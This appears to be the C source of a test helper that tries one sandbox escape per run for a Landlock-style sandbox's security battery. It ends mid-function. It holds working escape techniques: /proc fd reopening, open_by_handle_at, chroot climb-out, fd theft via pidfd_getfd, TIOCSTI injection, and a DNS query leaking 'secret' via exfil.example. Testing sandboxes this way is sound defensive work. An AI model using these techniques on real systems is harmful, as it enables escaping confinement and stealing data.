/* SPDX-License-Identifier: Apache-2.0 */
/* escape: one sandbox-escape attempt per run, for the security battery
 * (tests/security/t_escape_*.sh). Each attempt is run once unsandboxed,
 * where it must succeed (so a "blocked" can never come from an attempt that
 * is impossible anyway), and once sandboxed, where it must fail.
 *
 * Output, one line on stdout:
 *   escaped [DETAIL]     the attempt got through                exit 0
 *   blocked ERRNO        a step failed (ERRNO names the first)   exit 3
 * Usage errors print to stderr and exit 2. Helper subcommands (servers,
 * wrappers, reporters) say what they print below.
 *
 *   escape write PATH                open(O_WRONLY|O_CREAT|O_TRUNC) + write
 *   escape write-fd N                write to an inherited fd N
 *   escape read PATH                 open(O_RDONLY) + read; prints the bytes
 *   escape symlink-write TARGET LINK symlink(TARGET, LINK), then write LINK
 *   escape hardlink-write SRC LINK   link(SRC, LINK), then write LINK
 *   escape rename SRC DST            rename(SRC, DST)
 *   escape reopen-write FILE         open FILE read-only, then re-open
 *                                    /proc/self/fd/N for writing + write
 *   escape opath-reopen-write FILE   open FILE with O_PATH, then re-open
 *                                    /proc/self/fd/N for writing + write
 *   escape handle-write DIR FILE     name_to_handle_at(FILE), then
 *                                    open_by_handle_at(DIR's fd, O_WRONLY)
 *   escape chmod|chown|utime|setxattr FILE
 *                                    chmod 0606, chown nobody, mtime 1 s,
 *                                    set user.sandboxec_escape
 *   (PID: a number, or "parent" for getppid())
 *   escape ptrace PID                PTRACE_SEIZE (does not stop PID)
 *   escape proc-mem PID              open /proc/PID/mem read-write
 *   escape kill PID                  kill(PID, SIGTERM)
 *   escape stop PID                  kill(PID, SIGSTOP), then SIGCONT to undo it
 *   escape proc-fd-read PID N        open /proc/PID/fd/N for reading, then wait
 *                                    up to 3 s for bytes and read them
 *                                    (another process's stdin: its input)
 *   escape proc-fd-write PID N       open /proc/PID/fd/N for writing and write
 *                                    one JSON-RPC notification line (another
 *                                    process's stdout: a forged message)
 *   escape getfd-read PID N          pidfd_getfd(PID's fd N), then as proc-fd-read
 *                                    (works on sockets, which /proc/PID/fd
 *                                    cannot reopen)
 *   escape getfd-write PID N         pidfd_getfd(PID's fd N), then as
 *                                    proc-fd-write
 *   escape pidfile-sleep FILE SECONDS  helper: writes its pid to FILE, sleeps
 *   escape daemon FILE [stay]        helper: a setsid, double-forked process
 *                                    that writes its pid to FILE and sleeps
 *                                    60 s; prints "started PID" once FILE is
 *                                    there, then exits (or, with "stay",
 *                                    sleeps 60 s itself)
 *   escape abstract-connect NAME     connect to abstract unix socket @NAME
 *   escape unix-connect PATH         connect to pathname unix socket PATH
 *   escape unix-listen PATH SECONDS  server: prints "ready", accepts until
 *                                    SECONDS passed
 *   escape unix-dgram-listen PATH SECONDS  server: a datagram socket bound
 *                                    at PATH; prints "ready", reads until
 *                                    SECONDS passed
 *   escape unix-dgram-sendto PATH    socketpair(AF_UNIX, SOCK_DGRAM), then
 *                                    sendto(PATH) on one end (a unix
 *                                    datagram that is sent is queued)
 *   escape unix-dgram-reconnect PATH the same with connect(PATH) + send
 *   escape netlink-listen PORTID SECONDS  server: a NETLINK_USERSOCK socket
 *                                    bound to PORTID; prints "ready", reads
 *                                    until SECONDS passed
 *   escape netlink-send PORTID       a NETLINK_USERSOCK message to PORTID
 *                                    (unicast to no socket: ECONNREFUSED)
 *   escape repoint PATH TARGET       rmdir PATH if it is there, then put a
 *                                    symlink to TARGET in its place (one
 *                                    process: a shim that re-reads a rule
 *                                    on PATH would stop a second exec)
 *   escape tcp-connect PORT          TCP connect to 127.0.0.1:PORT
 *   escape mptcp-connect PORT        the same over IPPROTO_MPTCP
 *   escape tcp-bind PORT             TCP bind to 127.0.0.1:PORT
 *   escape mptcp-bind PORT           the same over IPPROTO_MPTCP
 *   escape tcp-fastopen PORT         TCP sendto(MSG_FASTOPEN), which connects
 *                                    without connect(2)
 *   escape raw-socket                socket(AF_INET, SOCK_RAW, IPPROTO_TCP)
 *   (HOST: an IPv4 or IPv6 address, e.g. 127.0.0.1 or ::1)
 *   escape udp-echo HOST SECONDS     server: prints "ready PORT", sends every
 *                                    datagram back until SECONDS passed
 *   escape udp-send HOST PORT        UDP sendto HOST:PORT; "escaped" once the
 *                                    echo server's answer arrives (2 s)
 *   escape udp-send-fd N             the same on an inherited, connected UDP
 *                                    socket N, with send(2)
 *   escape dns-query HOST PORT       a DNS query (type A) whose name carries
 *                                    a secret, to HOST:PORT; "escaped" when an
 *                                    answer with its ID comes back
 *   escape raw-icmp                  ICMP echo to 127.0.0.1 from a raw socket
 *                                    (root); "escaped" on the echo reply
 *   escape listen-unbound            TCP listen() without bind(): prints
 *                                    "listening PORT" (the kernel's pick),
 *                                    "escaped" if a connection comes (5 s)
 *   escape connect-back CMD [ARG...] wrapper: runs CMD; on a "listening
 *                                    PORT" line from it, connects to
 *                                    127.0.0.1:PORT from outside; relays the
 *                                    other lines
 *   escape io-uring-write PATH       IORING_OP_OPENAT(O_WRONLY|O_CREAT) on
 *                                    a ring made by raw syscalls, then write
 *   escape io-uring-mptcp-connect PORT  IORING_OP_SOCKET(AF_INET, MPTCP),
 *                                    then connect to 127.0.0.1:PORT
 *   escape mount-bind SRC DST FILE   unshare(CLONE_NEWNS), bind SRC over DST,
 *                                    write DST/FILE (lands in SRC/FILE)
 *   escape chroot-write DIR PATH     chroot(DIR), climb out with the classic
 *                                    chdir("..") walk, chroot("."), write PATH
 *   escape suid-check                "escaped euid N" if the effective uid
 *                                    differs from the real one (run it as a
 *                                    setuid copy)
 *   escape caps-check                "escaped ..." if any capability is
 *                                    effective (run it as a non-root user
 *                                    from a copy with file capabilities)
 *   escape nnp                       prints PR_GET_NO_NEW_PRIVS (0 or 1)
 *   escape seccomp                   prints PR_GET_SECCOMP (0 none, 2 filter)
 *   escape keyctl-to-parent          joins a new session keyring and moves
 *                                    it to the parent (KEYCTL_SESSION_TO_PARENT)
 *   escape tiocsti                   pushes one byte into the terminal on fd 0
 *   escape pty-run CMD [ARG...]      runs CMD with a new pty as its
 *                                    controlling terminal on fds 0-2; after it
 *                                    exits, "escaped" if bytes were injected
 *                                    into the terminal's input, else
 *                                    "blocked none"
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "errno_names.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_SESSION_TO_PARENT    18

enum { EXIT_ESCAPED = 0, EXIT_USAGE = 2, EXIT_BLOCKED = 3 };

static const char *errno_name(int e)
{
	return errno_name_or(e, "errno");
}

static int escaped(const char *detail)
{
	printf("escaped%s%s\n", detail ? " " : "", detail ? detail : "");
	return EXIT_ESCAPED;
}

/* Reports the errno of the step that failed. */
static int blocked(void)
{
	printf("blocked %s\n", errno_name(errno));
	return EXIT_BLOCKED;
}

static int blocked_with(int e)
{
	errno = e;
	return blocked();
}

static int usage(void)
{
	fprintf(stderr, "usage: escape SUBCOMMAND ARGS... (see the comment in escape.c)\n");
	return EXIT_USAGE;
}

static int write_marker(int fd)
{
	static const char text[] = "escaped\n";

	if (write(fd, text, sizeof(text) - 1) != (ssize_t)(sizeof(text) - 1)) {
		int e = errno;

		close(fd);
		return blocked_with(e);
	}
	close(fd);
	return escaped(NULL);
}

static int do_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0)
		return blocked();
	return write_marker(fd);
}

static int do_write_fd(const char *num)
{
	return write_marker(atoi(num));
}

static int do_read(const char *path)
{
	char buf[256];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return blocked();
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0)
		return blocked();
	close(fd);
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return escaped(buf);
}

static int do_symlink_write(const char *target, const char *link)
{
	if (symlink(target, link) < 0)
		return blocked();
	return do_write(link);
}

static int do_hardlink_write(const char *src, const char *dst)
{
	if (link(src, dst) < 0)
		return blocked();
	return do_write(dst);
}

static int do_rename(const char *src, const char *dst)
{
	if (rename(src, dst) < 0)
		return blocked();
	return escaped(NULL);
}

/* Read access is granted, so the first open works; the second goes through
 * the magic link and asks for write. */
static int do_reopen_write(const char *file)
{
	char proc[64];
	int rfd = open(file, O_RDONLY);
	int wfd;

	if (rfd < 0)
		return blocked();
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", rfd);
	wfd = open(proc, O_WRONLY | O_TRUNC | O_CLOEXEC);
	close(rfd);
	if (wfd < 0)
		return blocked();
	return write_marker(wfd);
}

/* "parent" names our parent: in the battery, the test's shell, which is
 * outside the sandbox. */
static pid_t pid_arg(const char *arg)
{
	pid_t pid = strcmp(arg, "parent") == 0 ? getppid() : (pid_t)atoi(arg);

	/* 0 or -1 would make kill() hit a whole process group, the test's. */
	if (pid <= 1) {
		fprintf(stderr, "escape: refusing PID \"%s\"\n", arg);
		exit(EXIT_USAGE);
	}
	return pid;
}

/* An O_PATH fd needs no access right (Landlock does not check it); the
 * question is whether the magic link then opens it for write. */
static int do_opath_reopen_write(const char *file)
{
	char proc[64];
	int pfd = open(file, O_PATH | O_CLOEXEC);
	int wfd;

	if (pfd < 0)
		return blocked();
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", pfd);
	wfd = open(proc, O_WRONLY | O_TRUNC | O_CLOEXEC);
	close(pfd);
	if (wfd < 0)
		return blocked();
	return write_marker(wfd);
}

/* The "shocker" path: a file handle names a file without a path walk;
 * open_by_handle_at (CAP_DAC_READ_SEARCH, which root has) opens it
 * through any fd on the same mount. */
static int do_handle_write(const char *mount_dir, const char *file)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mount_id, mfd, wfd;

	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, file, &h.fh, &mount_id, 0) < 0)
		return blocked();
	mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		return blocked();
	wfd = open_by_handle_at(mfd, &h.fh, O_WRONLY | O_TRUNC | O_CLOEXEC);
	close(mfd);
	if (wfd < 0)
		return blocked();
	return write_marker(wfd);
}

static int do_metadata(const char *what, const char *file)
{
	int r;

	if (strcmp(what, "chmod") == 0) {
		r = chmod(file, 0606);
	} else if (strcmp(what, "chown") == 0) {
		r = chown(file, 65534, 65534);
	} else if (strcmp(what, "utime") == 0) {
		struct timespec ts[2] = {{1, 0}, {1, 0}};

		r = utimensat(AT_FDCWD, file, ts, 0);
	} else if (strcmp(what, "setxattr") == 0) {
		r = setxattr(file, "user.sandboxec_escape", "x", 1, 0);
	} else {
		return usage();
	}
	if (r < 0)
		return blocked();
	return escaped(NULL);
}

static int do_ptrace(const char *pid)
{
	/* SEIZE does not stop the tracee; our exit detaches. */
	if (ptrace(PTRACE_SEIZE, pid_arg(pid), NULL, NULL) < 0)
		return blocked();
	return escaped(NULL);
}

static int do_proc_mem(const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid_arg(pid));
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return blocked();
	close(fd);
	return escaped(NULL);
}

static int do_kill(const char *pid)
{
	if (kill(pid_arg(pid), SIGTERM) < 0)
		return blocked();
	return escaped(NULL);
}

static int do_stop(const char *pid)
{
	pid_t p = pid_arg(pid);

	if (kill(p, SIGSTOP) < 0)
		return blocked();
	kill(p, SIGCONT);
	return escaped(NULL);
}

static int open_proc_fd(const char *pid, const char *num, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid_arg(pid), atoi(num));
	return open(path, flags | O_CLOEXEC);
}

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* A copy of another process's fd N, as a debugger would take it. */
static int getfd(const char *pid, const char *num)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid_arg(pid), 0), fd, e;

	if (pidfd < 0)
		return -1;
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(num), 0);
	e = errno;
	close(pidfd);
	errno = e;
	return fd;
}

/* Waits up to 3 s for input on fd and takes what is there (without
 * blocking: the owner may read it first). */
static int steal(int fd)
{
	struct pollfd p = {.fd = fd, .events = POLLIN};
	char buf[256], detail[300];
	ssize_t n = 0;
	size_t i;

	if (poll(&p, 1, 3000) > 0) {
		n = recv(fd, buf, sizeof(buf) - 1, MSG_DONTWAIT);
		if (n < 0 && errno == ENOTSOCK)
			n = read(fd, buf, sizeof(buf) - 1);
	}
	close(fd);
	if (n < 0)
		n = 0;
	for (i = 0; i < (size_t)n; i++)
		if (buf[i] < 0x20 || buf[i] > 0x7e)
			buf[i] = '.';
	buf[n] = 0;
	snprintf(detail, sizeof(detail), "stole %zd bytes: %s", n, buf);
	return escaped(detail);
}

static int forge(int fd)
{
	static const char forged[] =
	    "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\","
	    "\"params\":{\"level\":\"info\",\"data\":\"forged by escape\"}}\n";

	if (write(fd, forged, sizeof(forged) - 1) < 0) {
		int e = errno;

		close(fd);
		return blocked_with(e);
	}
	close(fd);
	return escaped(NULL);
}

static int do_proc_fd_read(const char *pid, const char *num)
{
	int fd = open_proc_fd(pid, num, O_RDONLY | O_NONBLOCK);

	return fd < 0 ? blocked() : steal(fd);
}

static int do_proc_fd_write(const char *pid, const char *num)
{
	int fd = open_proc_fd(pid, num, O_WRONLY);

	return fd < 0 ? blocked() : forge(fd);
}

static int do_getfd_read(const char *pid, const char *num)
{
	int fd = getfd(pid, num);

	return fd < 0 ? blocked() : steal(fd);
}

static int do_getfd_write(const char *pid, const char *num)
{
	int fd = getfd(pid, num);

	return fd < 0 ? blocked() : forge(fd);
}

static void write_pidfile(const char *file)
{
	char tmp[PATH_MAX], text[32];
	int fd, len = snprintf(text, sizeof(text), "%d\n", (int)getpid());

	snprintf(tmp, sizeof(tmp), "%s.tmp", file);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, text, (size_t)len) != len || rename(tmp, file) < 0)
		_exit(1);
	close(fd);
}

static int do_pidfile_sleep(const char *file, const char *seconds)
{
	write_pidfile(file);
	sleep((unsigned)atoi(seconds));
	return 0;
}

/* The classic daemon: it leaves the session and process group, and its
 * parent exits so that it is reparented. */
static int do_daemon(const char *file, int stay)
{
	char text[32] = "";
	pid_t mid = fork();
	int i, fd;

	if (mid < 0)
		return blocked();
	if (mid == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		close(0);
		close(1);
		close(2);
		write_pidfile(file);
		sleep(60);
		_exit(0);
	}
	waitpid(mid, NULL, 0);
	for (i = 0; i < 300 && (fd = open(file, O_RDONLY | O_CLOEXEC)) < 0; i++)
		usleep(10000);
	if (fd < 0)
		return blocked();
	if (read(fd, text, sizeof(text) - 1) < 0)
		text[0] = 0;
	close(fd);
	printf("started %d\n", atoi(text));
	if (stay)
		sleep(60);
	return 0;
}

static int unix_addr(struct sockaddr_un *sun, const char *name, int abstract, socklen_t *len)
{
	size_t n = strlen(name);

	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	if (n + 2 > sizeof(sun->sun_path))
		return -1;
	memcpy(sun->sun_path + (abstract ? 1 : 0), name, n);
	*len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	return 0;
}

static int do_unix_connect(const char *name, int abstract)
{
	struct sockaddr_un sun;
	socklen_t len;
	int fd;

	if (unix_addr(&sun, name, abstract, &len) < 0)
		return usage();
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return blocked();
	if (connect(fd, (struct sockaddr *)&sun, len) < 0)
		return blocked();
	close(fd);
	return escaped(NULL);
}

static int do_unix_listen(const char *path, const char *seconds)
{
	struct sockaddr_un sun;
	socklen_t len;
	time_t end = time(NULL) + atoi(seconds);
	int fd;

	if (unix_addr(&sun, path, 0, &len) < 0)
		return usage();
	unlink(path);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sun, len) < 0 || listen(fd, 16) < 0)
		return blocked();
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		struct pollfd p = {fd, POLLIN, 0};

		if (poll(&p, 1, 200) > 0) {
			int c = accept(fd, NULL, NULL);

			if (c >= 0)
				close(c);
		}
	}
	unlink(path);
	return 0;
}

/* Reads whatever arrives on FD until SECONDS passed. */
static void drain_until(int fd, const char *seconds)
{
	time_t end = time(NULL) + atoi(seconds);
	char buf[512];

	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		struct pollfd p = {fd, POLLIN, 0};

		if (poll(&p, 1, 200) > 0 && recv(fd, buf, sizeof(buf), 0) < 0)
			break;
	}
}

static int do_unix_dgram_listen(const char *path, const char *seconds)
{
	struct sockaddr_un sun;
	socklen_t len;
	int fd;

	if (unix_addr(&sun, path, 0, &len) < 0)
		return usage();
	unlink(path);
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sun, len) < 0)
		return blocked();
	drain_until(fd, seconds);
	unlink(path);
	return 0;
}

/* A socketpair() end is a unix socket that socket() never made; a
 * datagram one may still name any address in sendto() or connect() again. */
static int do_unix_dgram_send(const char *path, int reconnect)
{
	struct sockaddr_un sun;
	socklen_t len;
	int sv[2];
	ssize_t n;

	if (unix_addr(&sun, path, 0, &len) < 0)
		return usage();
	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv) < 0)
		return blocked();
	if (reconnect) {
		if (connect(sv[0], (struct sockaddr *)&sun, len) < 0)
			return blocked();
		n = send(sv[0], "secret", 6, 0);
	} else {
		n = sendto(sv[0], "secret", 6, 0, (struct sockaddr *)&sun, len);
	}
	if (n < 0)
		return blocked();
	return escaped(NULL);
}

static int do_netlink_listen(const char *portid, const char *seconds)
{
	struct sockaddr_nl snl = {.nl_family = AF_NETLINK, .nl_pid = (uint32_t)atol(portid)};
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_USERSOCK);

	if (fd < 0 || bind(fd, (struct sockaddr *)&snl, sizeof(snl)) < 0)
		return blocked();
	drain_until(fd, seconds);
	return 0;
}

/* NETLINK_USERSOCK lets any user send to any port id: a message queue
 * between processes that no unix-socket or scope rule sees. */
static int do_netlink_send(const char *portid)
{
	struct sockaddr_nl snl = {.nl_family = AF_NETLINK, .nl_pid = (uint32_t)atol(portid)};
	struct {
		struct nlmsghdr h;
		char data[8];
	} msg = {.h = {.nlmsg_len = NLMSG_LENGTH(6)}, .data = "secret"};
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_USERSOCK);

	if (fd < 0)
		return blocked();
	if (sendto(fd, &msg, msg.h.nlmsg_len, 0, (struct sockaddr *)&snl, sizeof(snl)) < 0)
		return blocked();
	return escaped(NULL);
}

static int do_repoint(const char *path, const char *target)
{
	if (rmdir(path) < 0 && errno != ENOENT)
		return blocked();
	if (symlink(target, path) < 0)
		return blocked();
	return escaped(NULL);
}

static int do_inet(const char *port, int type, int proto, int fastopen, int bind_only)
{
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	int fd;

	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, type | SOCK_CLOEXEC, proto);
	if (fd < 0)
		return blocked();
	if (type == SOCK_DGRAM || fastopen) {
		/* MSG_FASTOPEN connects implicitly, inside sendto(). */
		if (sendto(fd, "x", 1, fastopen ? MSG_FASTOPEN : 0, (struct sockaddr *)&sin,
			   sizeof(sin)) < 0)
			return blocked();
		/* Proof that a connection was made: the server's answer. */
		if (fastopen) {
			struct pollfd p = {fd, POLLIN, 0};
			char buf[64];

			if (poll(&p, 1, 5000) <= 0 || read(fd, buf, sizeof(buf)) <= 0)
				return blocked_with(ENOTCONN);
		}
	} else if (bind_only) {
		int one = 1;

		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		if (bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0)
			return blocked();
	} else if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		return blocked();
	}
	close(fd);
	return escaped(NULL);
}

/* HOST (v4 or v6) and PORT as a sockaddr; returns its length, 0 if HOST
 * is not an address. */
static socklen_t inet_addr_of(const char *host, const char *port, struct sockaddr_storage *ss)
{
	struct sockaddr_in *sin = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, host, &sin->sin_addr) == 1) {
		sin->sin_family = AF_INET;
		sin->sin_port = htons((uint16_t)atoi(port));
		return sizeof(*sin);
	}
	if (inet_pton(AF_INET6, host, &sin6->sin6_addr) == 1) {
		sin6->sin6_family = AF_INET6;
		sin6->sin6_port = htons((uint16_t)atoi(port));
		return sizeof(*sin6);
	}
	return 0;
}

static int udp_echo(const char *host, const char *seconds)
{
	struct sockaddr_storage ss;
	socklen_t len = inet_addr_of(host, "0", &ss);
	time_t end = time(NULL) + atoi(seconds);
	int fd;

	if (!len)
		return usage();
	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&ss, len) < 0 ||
	    getsockname(fd, (struct sockaddr *)&ss, &len) < 0)
		return blocked();
	printf("ready %u\n",
	       ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
					     : ((struct sockaddr_in6 *)&ss)->sin6_port));
	while (time(NULL) < end) {
		struct pollfd p = {fd, POLLIN, 0};
		struct sockaddr_storage from;
		socklen_t flen = sizeof(from);
		char buf[512];
		ssize_t n;

		if (poll(&p, 1, 200) <= 0)
			continue;
		n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &flen);
		if (n > 0)
			sendto(fd, buf, (size_t)n, 0, (struct sockaddr *)&from, flen);
	}
	return 0;
}

/* Sends MSG (to TO, or on a connected socket) and waits for the echo: an
 * answer proves the datagram arrived. */
static int udp_roundtrip(int fd, const void *msg, size_t len, const struct sockaddr *to,
			 socklen_t to_len)
{
	struct pollfd p = {fd, POLLIN, 0};
	char buf[512];
	ssize_t n;

	if (sendto(fd, msg, len, 0, to, to_len) < 0)
		return blocked();
	if (poll(&p, 1, 2000) <= 0)
		return blocked_with(ETIMEDOUT);
	n = recv(fd, buf, sizeof(buf), 0);
	if (n < 0)
		return blocked();
	if ((size_t)n != len || memcmp(buf, msg, 2) != 0)
		return blocked_with(EBADMSG);
	close(fd);
	return escaped("answered");
}

static int do_udp_send(const char *host, const char *port, int dns)
{
	/* A query for A c2VjcmV0.exfil.example: the label is base64 of
	 * "secret", what a leak through any resolver looks like. */
	static const unsigned char query[] = {
	    0x5b, 0x0c, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 8,	 'c',
	    '2',  'V',	'j',  'c',  'm',  'V',	'0',  5,    'e',  'x',	'f',  'i',  'l', 7,
	    'e',  'x',	'a',  'm',  'p',  'l',	'e',  0,    0x00, 0x01, 0x00, 0x01};
	struct sockaddr_storage ss;
	socklen_t len = inet_addr_of(host, port, &ss);
	int fd;

	if (!len)
		return usage();
	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return blocked();
	if (dns)
		return udp_roundtrip(fd, query, sizeof(query), (struct sockaddr *)&ss, len);
	return udp_roundtrip(fd, "xy", 2, (struct sockaddr *)&ss, len);
}

/* ICMP echo by hand: a raw socket crafts any IP packet (only root, with
 * CAP_NET_RAW, may open one). */
static int do_raw_icmp(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	unsigned char pkt[16] = {8, 0, 0, 0, 0x12, 0x34, 0, 1, 's', 'e', 'c', 'r', 'e', 't'};
	unsigned sum = 0;
	time_t end = time(NULL) + 3;
	size_t i;
	int fd;

	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	for (i = 0; i < sizeof(pkt); i += 2)
		sum += (unsigned)(pkt[i] << 8 | pkt[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	pkt[2] = (unsigned char)(~sum >> 8);
	pkt[3] = (unsigned char)~sum;
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		return blocked();
	if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return blocked();
	/* The raw socket sees our request too; wait for the reply (type 0). */
	while (time(NULL) < end) {
		struct pollfd p = {fd, POLLIN, 0};
		unsigned char buf[256];
		ssize_t n;
		size_t ihl;

		if (poll(&p, 1, 500) <= 0)
			continue;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < 20)
			continue;
		ihl = (size_t)(buf[0] & 0xf) * 4;
		if ((size_t)n >= ihl + 8 && buf[ihl] == 0 && buf[ihl + 4] == 0x12 &&
		    buf[ihl + 5] == 0x34) {
			close(fd);
			return escaped("echo reply");
		}
	}
	return blocked_with(ETIMEDOUT);
}

/* listen() on a socket never bound: the kernel picks a port, and nothing
 * asked Landlock about it. */
static int do_listen_unbound(void)
{
	struct sockaddr_in sin;
	socklen_t len = sizeof(sin);
	struct pollfd p;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c;

	if (fd < 0)
		return blocked();
	if (listen(fd, 4) < 0 || getsockname(fd, (struct sockaddr *)&sin, &len) < 0)
		return blocked();
	printf("listening %u\n", ntohs(sin.sin_port));
	p = (struct pollfd){fd, POLLIN, 0};
	if (poll(&p, 1, 5000) <= 0)
		return blocked_with(ETIMEDOUT);
	c = accept(fd, NULL, NULL);
	if (c < 0)
		return blocked();
	close(c);
	close(fd);
	return escaped("accepted");
}

/* The outside end of listen-unbound: connects to the port CMD announces,
 * from this unsandboxed process, and passes the rest of CMD's output on. */
static int do_connect_back(char **cmd)
{
	int pipefd[2], status, conn = -1;
	char line[256];
	FILE *in;
	pid_t pid;

	if (pipe(pipefd) < 0)
		return blocked();
	pid = fork();
	if (pid < 0)
		return blocked();
	if (pid == 0) {
		dup2(pipefd[1], STDOUT_FILENO);
		close(pipefd[0]);
		close(pipefd[1]);
		execvp(cmd[0], cmd);
		_exit(127);
	}
	close(pipefd[1]);
	in = fdopen(pipefd[0], "r");
	while (in && fgets(line, sizeof(line), in)) {
		unsigned port;

		if (sscanf(line, "listening %u", &port) == 1) {
			struct sockaddr_in sin = {.sin_family = AF_INET,
						  .sin_port = htons((uint16_t)port)};

			sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
			conn = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (conn >= 0)
				connect(conn, (struct sockaddr *)&sin, sizeof(sin));
			continue;
		}
		fputs(line, stdout);
	}
	if (waitpid(pid, &status, 0) < 0)
		return blocked();
	if (conn >= 0)
		close(conn);
	return WIFEXITED(status) ? WEXITSTATUS(status) : EXIT_USAGE;
}

/* A raw socket writes TCP segments by hand, to any port: only root
 * (CAP_NET_RAW) may open one. */
static int do_raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);

	if (fd < 0)
		return blocked();
	close(fd);
	return escaped(NULL);
}

/* io_uring without liburing: set up a one-entry ring, map it, submit the
 * one request SQE and wait for its completion. Returns the request's
 * result (-errno on failure); a failing setup step sets errno and returns
 * INT_MIN. */
static int io_uring_run_one(const struct io_uring_sqe *sqe)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;
	unsigned *sq_tail, *sq_array, *cq_head;
	char *sq_ring, *cq_ring;
	size_t sq_len, cq_len;
	int ring, res;

	memset(&p, 0, sizeof(p));
	ring = (int)syscall(__NR_io_uring_setup, 1, &p);
	if (ring < 0)
		return INT_MIN;
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	sq_ring = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
		       IORING_OFF_SQ_RING);
	cq_ring = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
		       IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq_ring == MAP_FAILED || cq_ring == MAP_FAILED || sqes == MAP_FAILED)
		return INT_MIN;
